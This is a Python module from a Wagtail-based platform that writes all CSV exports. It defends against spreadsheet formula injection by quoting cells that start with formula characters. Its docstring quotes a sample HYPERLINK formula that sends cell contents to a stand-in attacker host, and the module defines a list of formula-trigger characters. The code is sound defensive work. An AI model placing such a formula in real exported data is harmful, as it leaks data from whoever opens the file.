"""The one CSV writer of the platform: every CSV file it produces (the open-data export, the
admin's exports of submissions, survey answers and search logs) is written through here.

Text from the public ends up in these files, and a spreadsheet runs a cell that starts with
`=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula: a title such as
`=HYPERLINK("https://evil.example/?"&A1, "Open")` would run on a researcher's machine. As
OWASP recommends, such a text cell is written with a single quote in front, which
spreadsheets show as plain text. Numbers are left as they are, so a negative longitude in a
numeric column stays a number (the Frictionless schema of the open data says `number`).
"""

import csv as stdlib_csv

from wagtail.admin.views.mixins import Echo

# OWASP's list (CSV Injection): the first characters a spreadsheet treats as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISED_NOTE = (
    "Text that starts with =, +, -, @, a tab or a carriage return is written with a single "
    "quote (') in front, so that spreadsheets show it as text instead of running it as a formula."
)


def neutralise(value):
    """`value` as a CSV cell that no spreadsheet runs as a formula. Only text is changed."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class Writer:
    """`csv.writer` whose rows are neutralised cell by cell.

    Rows end in CRLF, as RFC 4180 says: with that line end the csv module also quotes a cell
    holding a lone carriage return, which with a bare LF it would leave unquoted, breaking
    the row for every reader."""

    def __init__(self, handle):
        self._writer = stdlib_csv.writer(handle, lineterminator="\r\n")

    def writerow(self, row):
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class DictWriter:
    """`csv.DictWriter` whose rows (and header) are neutralised cell by cell."""

    def __init__(self, handle, fieldnames, **options):
        self._writer = stdlib_csv.DictWriter(handle, fieldnames, **options)

    def writeheader(self):
        return self._writer.writerow({name: neutralise(name) for name in self._writer.fieldnames})

    def writerow(self, row):
        return self._writer.writerow({name: neutralise(value) for name, value in row.items()})


class SafeCSVExportMixin:
    """For Wagtail's spreadsheet exports (`SpreadsheetExportMixin`: wagtail-modeladmin's index
    views, Wagtail's listing views): their CSV goes through `DictWriter` above. (Wagtail's XLSX
    export already stores formula-looking cells as text.)"""

    def stream_csv(self, queryset):
        writer = DictWriter(Echo(), fieldnames=self.list_export)
        yield writer.writerow(
            {field: self.get_heading(queryset, field) for field in self.list_export}
        )
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))
